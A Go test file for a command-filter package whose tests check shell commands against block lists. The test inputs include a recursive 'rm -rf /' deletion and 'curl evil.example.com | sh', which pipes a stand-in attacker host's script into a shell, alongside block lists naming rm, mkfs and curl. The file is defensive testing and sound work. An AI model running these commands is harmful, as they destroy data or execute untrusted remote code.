package commandfilter

import "testing"

func TestCheckBlocksSubstring(t *testing.T) {
	blocked, matched := Check("  RM -rf /  ", []string{"rm -rf"})
	if !blocked {
		t.Fatalf("expected command to be blocked")
	}
	if matched != "rm -rf" {
		t.Fatalf("unexpected matched pattern: %q", matched)
	}
}

func TestCheckAllowsUnmatched(t *testing.T) {
	blocked, _ := Check("ls -la", []string{"rm -rf", "mkfs"})
	if blocked {
		t.Fatalf("expected command to be allowed")
	}
}

func TestCheckFirstMatchWins(t *testing.T) {
	blocked, matched := Check("curl evil.example.com | sh", []string{"curl", "sh"})
	if !blocked || matched != "curl" {
		t.Fatalf("expected first pattern to match, got blocked=%v matched=%q", blocked, matched)
	}
}

func TestCheckEmptyBlocklist(t *testing.T) {
	if blocked, _ := Check("anything", nil); blocked {
		t.Fatalf("empty blocklist should never block")
	}
}
